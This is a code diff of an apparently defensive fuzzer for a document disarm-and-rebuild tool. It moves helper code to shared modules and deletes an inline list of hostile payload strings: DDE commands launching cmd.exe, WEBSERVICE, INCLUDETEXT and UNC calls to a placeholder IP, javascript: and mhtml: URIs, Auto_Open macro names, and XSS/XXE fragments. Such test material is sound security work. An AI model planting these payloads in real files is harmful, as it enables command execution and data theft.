@@ -9,84 +9,9 @@
 #include <stdlib.h>
 
 #include "disarm/disarm.h"
+#include "forging.h"
 #include "rebuild/rebuild.h"
-
-static uint64_t state;
-
-static uint32_t any(uint32_t below)
-{
-	state ^= state << 13;
-	state ^= state >> 7;
-	state ^= state << 17;
-	return (uint32_t)(state >> 11) % below;
-}
-
-static const char *const evil[] = {
-    "cmd|'/c calc'!A0",
-    "=cmd|'/c calc'!A0",
-    "WEBSERVICE(\"http://203.0.113.9/\")",
-    "=WEBSERVICE(A1)",
-    "DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe \"/k calc\"",
-    "INCLUDETEXT \"\\\\\\\\203.0.113.9\\\\a\"",
-    "a\" \\d INCLUDEPICTURE \"http://203.0.113.9/a",
-    "ppaction://program",
-    "ppaction://macro?name=a",
-    "\\\\203.0.113.9\\share\\a.exe",
-    "file:///C:/Windows/System32/calc.exe",
-    "http://203.0.113.9@evil/",
-    "javascript:alert(1)",
-    "mhtml:http://203.0.113.9/!x-usc:http://203.0.113.9/",
-    "[1]Sheet1!A1",
-    "'\\\\203.0.113.9\\[a.xlsx]S'!A1",
-    "Auto_Open",
-    "_xlnm.Auto_Open",
-    "a\"/><script>x</script><a b=\"",
-    "]]><!DOCTYPE a>",
-    "../../vbaProject.bin",
-    "&e;",
-    "x' onclick='y",
-};
-
-static bool load(const char *path, struct buf *to)
-{
-	FILE *f = fopen(path, "rb");
-	if (!f)
-		return false;
-	for (int c; (c = getc(f)) != EOF;)
-		buf_u8(to, (uint8_t)c);
-	(void)fclose(f);
-	return to->err == OK;
-}
-
-/* Where a string of the body begins: a length, then that many clean characters. */
-static bool string_at(struct view body, size_t at, size_t *ret_n)
-{
-	uint8_t n = body.p[at];
-	struct view v = view_sub(body, at + 1, n);
-	if (n < 2 || n > 120 || v.n != n || !utf8_clean(v))
-		return false;
-	for (size_t i = 0; i < v.n; i++)
-		if (v.p[i] < 0x20)
-			return false;
-	*ret_n = n;
-	return true;
-}
-
-static void exchange(struct view body, struct buf *out)
-{
-	size_t at = 0, n = 0;
-	for (unsigned tries = 0; tries < 4000 && n == 0; tries++) {
-		at = any((uint32_t)body.n);
-		if (!string_at(body, at, &n))
-			n = 0;
-	}
-	struct view with = n ? view_str(evil[any(array_len(evil))]) : view_sub(body, at, 1);
-	buf_put(out, view_sub(body, 0, at));
-	if (n)
-		buf_varint(out, with.n);
-	buf_put(out, with);
-	buf_put(out, view_sub(body, at + n + 1, body.n));
-}
+#include "whole.h"
 
 static void change(struct view body, struct buf *out)
 {
@@ -105,7 +30,7 @@ static void forge(const struct form *form, struct buf *to)
 		if (i > 0 || form->parts[i].body.n == 0)
 			buf_put(&body, form->parts[i].body);
 		else if (any(4))
-			exchange(form->parts[i].body, &body);
+			forging_exchange(form->parts[i].body, &body, false);
 		else
 			change(form->parts[i].body, &body);
 		buf_put(to, buf_view(&body));
@@ -117,11 +42,7 @@ static bool keep(const char *dir, unsigned long number, const char *ext, struct 
 {
 	char path[4096];
 	(void)snprintf(path, sizeof path, "%s/%lu.%s", dir, number, ext);
-	FILE *f = fopen(path, "wb");
-	bool ok = f && fwrite(v.p, 1, v.n, f) == v.n;
-	if (f)
-		(void)fclose(f);
-	return ok;
+	return whole_write(path, v);
 }
 
 static unsigned long forge_all(const char *dir, unsigned long count, struct view form_bytes,
@@ -157,7 +78,7 @@ int main(int argc, char **argv)
 	if (argc < 5 || view_int(view_str(argv[2]), 0, INT32_MAX, &seed) != OK ||
 	    view_int(view_str(argv[3]), 0, INT32_MAX, &count) != OK)
 		return 2;
-	state = (uint64_t)seed * UINT64_C(0x9e3779b97f4a7c15) + 1;
+	chance_seed((uint64_t)seed);
 	disarm_warm();
 	for (int i = 4; i < argc; i++) {
 		struct arena mem scope_end(arena_free) = arena_new(256u << 20);
@@ -166,7 +87,7 @@ int main(int argc, char **argv)
 		const struct format *format;
 		const char *dot = strrchr(argv[i], '.');
 		report = (struct report){0};
-		if (!load(argv[i], &in))
+		if (!whole_read(argv[i], &in))
 			return 2;
 		struct disarm d = {.in = buf_view(&in),
 				   .ext = view_str(dot ? dot + 1 : ""),
